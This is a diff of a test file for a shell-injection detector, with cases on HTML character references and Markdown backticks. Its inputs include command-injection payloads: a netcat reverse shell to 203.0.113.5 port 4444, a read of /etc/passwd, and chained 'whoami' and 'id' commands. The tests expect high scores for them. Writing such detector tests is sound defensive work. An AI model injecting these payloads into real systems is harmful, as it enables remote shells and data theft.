@@ -35,18 +35,20 @@ describe("shell analyzer", () => {
     for (const v of ["see me at 10am; call back at 2", "ok; type in your 4 digits", "fine; find me at 5", "H&M; top 10 deals", "Concert; date 06/15, time 8pm"]) expect(s(v)).toBeLessThan(0.5);
   });
 
-  test("markup's character references: the `&` of a named one separates no command, the `;` after one still does", () => {
+  test("markup's character references: the `&` of a named one separates no command, the `;` that closes one still does", () => {
     for (const v of ["<footer><p>&copy; 2024 Example Inc.</p></footer>", "<p>Acme&reg; Widget Pro</p>", "a&#38;b&#x26;c"]) expect(s(v)).toBe(0);
     expect(s("x&id;")).toBeGreaterThan(0);
     expect(s("a&copy /etc/passwd x")).toBeGreaterThanOrEqual(0.8);
-    // After a reference's `;`, a word without a shell's arguments is markup's text (`&gt;date&lt;`); a tool, or arguments, a command.
-    expect(s("<pre><code>&lt;span&gt;date&lt;/span&gt;</code></pre>")).toBeLessThanOrEqual(0.4);
-    for (const v of ["127.0.0.1&lt;nc 203.0.113.5 4444 -e /bin/bash", "1&lt;whoami", "ab&copy;whoami", "&gt;;dash -c id"]) expect(s(v)).toBeGreaterThanOrEqual(0.85);
+    // The `;` that closes a reference still separates: a shell runs `127.0.0.1 &`, `gt;`, then `id`.
+    expect(s("127.0.0.1&gt;id")).toBe(s("x;id"));
+    for (const v of ["127.0.0.1&lt;nc 203.0.113.5 4444 -e /bin/bash", "1&lt;whoami", "ab&copy;whoami", "&gt;;dash -c id"]) expect(s(v)).toBeGreaterThanOrEqual(0.8);
   });
 
   test("Markdown: a fence line opens no substitution, and a word-command quoted in a sentence or a code block is weak", () => {
     expect(s("```python\nprint(1)\n```")).toBe(0);
-    for (const v of ["The `ls` command lists files.", "Type `date` to see the time, then save."]) expect(s(v)).toBe(0.4);
+    for (const v of ["The `ls` command lists files.", "Type `date` to see the time, then save."]) expect(s(v)).toBe(0.55);
+    // With arguments, quoted in a sentence or not, a command: backticks run inside a quoted string too.
+    for (const v of ["please `cat config.php` for me", "how does `cp config.php config.txt` work here"]) expect(s(v)).toBeGreaterThanOrEqual(0.8);
     expect(s("Try this:\n```\nls\n```\nthanks")).toBeLessThanOrEqual(0.5);
     // Backticks where a shell word begins, at the value's end, in too short a sentence, around a tool or
     // a shell's arguments, or three of them inside a line (an empty substitution, then one): commands.
